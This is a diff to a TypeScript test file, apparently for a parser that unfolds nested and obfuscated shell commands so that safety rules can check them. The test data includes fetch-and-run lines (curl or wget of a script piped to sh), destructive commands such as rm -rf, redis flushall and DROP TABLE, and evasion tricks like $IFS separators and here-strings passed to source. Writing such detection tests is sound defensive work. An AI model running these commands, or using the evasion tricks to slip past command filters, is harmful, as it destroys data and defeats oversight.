@@ -53,6 +53,28 @@ const NESTED: readonly [string, string, readonly string[]][] = [
     ['i.sh', 'curl https://x.test/i.sh | sh'],
   ],
   ['a file fetched, and another one run', 'wget https://x.test/i.sh && ./j.sh', ['j.sh']],
+  ['a file fetched without a scheme and run', 'curl x.test/i.py -o i.py; python i.py', ['curl x.test/i.py | sh']],
+  ['a program by another name', 'grm -f x; docker-compose down -v', ['rm -f x', 'docker compose down -v']],
+  ['cmake -E', 'cmake -E remove_directory x', ['rm -rf x']],
+  ['a request of httpie', 'http DELETE x.test/a k=v', ['curl -X DELETE -d k=v x.test/a']],
+  ['a program named by its variable', '"$GIT" push -f; "$RUBY_BIN" -v', ['git push -f', 'ruby -v']],
+  ['the default of a variable', `"$\{NODE_BIN:-node}" -v`, ['node -v']],
+  ['words of concurrently', "concurrently 'npm:a:*' 'rm x'", ['npm run a:*', 'rm x']],
+  ['a command behind a here-document', 'cat <<EOF && rm x\ny\nEOF', ['generic: y\n', 'rm x']],
+  ['the input as a script', "source /dev/stdin <<< 'rm x'", ['rm x']],
+  ['a substitution as input', 'sh < <(echo rm x)', ['rm x', 'echo rm x']],
+  ['a separator in place of blanks', `rm$IFS-f$\{IFS}x`, ['rm -f x']],
+  ['another separator', 'IFS=,; c=rm,-f,x; $c', ['rm -f x']],
+  ['a substitution in a variable', 'c=$(echo rm -f x); $c', ['echo rm -f x', 'rm -f x']],
+  [
+    'what a substitution wrote is no command',
+    'echo "$(printf \'a `rm x`\')"',
+    ["echo 'a `rm x`'", "printf 'a `rm x`'"],
+  ],
+  ['statements for redis', "redis-cli -n 1 <<< 'flushall'", ['redis-cli flushall']],
+  ['files put by sftp', "sftp u@h <<< 'put a b'", ['scp a b u@h:']],
+  ['a script that tee wrote', "tee x.sh <<< 'rm x' > /dev/null; sh x.sh", []],
+  ['shell text that is only written', "cat > x.sh <<'EOF'\nrm x\nEOF", ['generic: rm x\n']],
   ['command', 'command rm x', ['rm x']],
   ['command that only looks', 'command -v rm', []],
   ['exec', 'exec -a name rm x', ['rm x']],
@@ -132,6 +154,35 @@ const NESTED: readonly [string, string, readonly string[]][] = [
   ['npx and its kin', 'npx -y rimraf x; uv run rm y', ['rimraf x', 'rm -r x', 'rm y']],
   ['SQL', `psql -h db -c 'DROP TABLE x'`, ['sql: DROP TABLE x']],
 ];
+
+/** Texts as rules see them where the value of variables is certain. */
+const SETTLED: readonly [command: string, settled: string | undefined][] = [
+  ['A=x; rm "$A"', 'A=x; rm x'],
+  [`A=x\nrm a "$\{A}/b c" $A`, "A=x\nrm a 'x/b c' x"],
+  ['for a in x y; do rm -f "$a"; done', 'for a in x y; do rm -f x y; done'],
+  ['export A=x; rm $A', 'export A=x; rm x'],
+  ['A=$(mktemp -d); rm "$A/x"', 'A=$(mktemp -d); rm /tmp/tmp.mktemp/x'],
+  ['rm "$A"; A=x', undefined],
+  ['A=x; A=$B; rm "$A"', undefined],
+  ['A=x; if b; then A=y; fi; rm "$A"', undefined],
+  ['A=x; read A; rm "$A"', undefined],
+  ['(A=x); rm "$A"', undefined],
+  ['A=x rm "$A"', undefined],
+  ['A=x; rm "$A$B"', undefined],
+  [`A=x; rm "$\{A:-y}"`, undefined],
+  ['A=x; f() { rm "$1/$A"; }', undefined],
+  ['for a in *; do rm "$a"; done', "for a in *; do rm '*'; done"],
+  ['echo $HOME', undefined],
+];
+
+test.each(SETTLED)('%s', (command, settled) => {
+  expect(unfolded(command).settled).toBe(settled);
+});
+
+test('nested texts settle for themselves', () => {
+  const { texts } = unfolded(`bash -c 'A=x; rm "$A"'`);
+  expect(texts.map(({ content }) => content)).toEqual(['A=x; rm x', 'rm x']);
+});
 
 test.each(NESTED)('%s', (_, command, expected) => {
   const { texts, gaps } = unfolded(command);
